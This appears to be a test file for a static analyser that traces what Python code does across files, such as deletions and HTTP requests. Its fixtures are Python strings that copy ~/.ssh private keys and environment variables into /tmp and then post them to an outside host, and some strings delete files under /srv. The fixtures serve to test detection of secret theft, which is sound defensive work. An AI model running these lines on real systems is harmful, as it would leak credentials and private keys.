import { beforeAll, describe, expect, test } from 'vitest';
import { analyseCode, type CodeUnit } from './analysis.ts';
import { loadParser } from './syntax-tree.ts';

beforeAll(loadParser);

const units = (texts: Record<string, string>): CodeUnit[] =>
  Object.entries(texts).map(([file, text]) => ({ file, line: 1, language: 'python', text }));
const effectsOf = (texts: Record<string, string>) =>
  analyseCode(units(texts), (path) => texts[path] ?? null).effects.map(
    ({ file, line, kind }) => `${file}:${line} ${kind}`,
  );

describe('a file that others import', () => {
  const imported = 'import os\nos.remove("/srv/sums")\n\ndef total():\n    os.remove("/srv/totals")\n';

  test('does once what it does, whoever is read first', () => {
    const expected = ['store.py:2 delete', 'store.py:5 delete'];
    expect(effectsOf({ 'app.py': 'import store\n', 'store.py': imported }).sort()).toEqual(expected);
    expect(effectsOf({ 'store.py': imported, 'z.py': 'import store\n' }).sort()).toEqual(expected);
  });
});

describe('a file that is written after it was read', () => {
  const send = 'import requests\nrequests.post("https://a.org", data=open("/tmp/o.txt").read())\n';
  const keep = 'import os\nopen("/tmp/o.txt", "w").write(str(os.environ))\n';
  const sent = (texts: Record<string, string>) =>
    analyseCode(units(texts)).effects.flatMap((effect) =>
      effect.kind === 'request' ? effect.body.map(({ kind }) => kind) : [],
    );

  test('is followed again, in either order of the units', () => {
    expect(sent({ 'a.py': send, 'b.py': keep })).toContain('environment');
    expect(sent({ 'a.py': keep, 'b.py': send })).toContain('environment');
  });

  test('a folder that is filled later is one too', () => {
    const pack = 'import shutil\nshutil.copytree("~/.ssh", "/tmp/keys")\n';
    const post = 'import requests\nrequests.post("https://a.org", data=open("/tmp/keys/id_rsa").read())\n';
    expect(sent({ 'a.py': post, 'b.py': pack })).toContain('secret');
  });
});
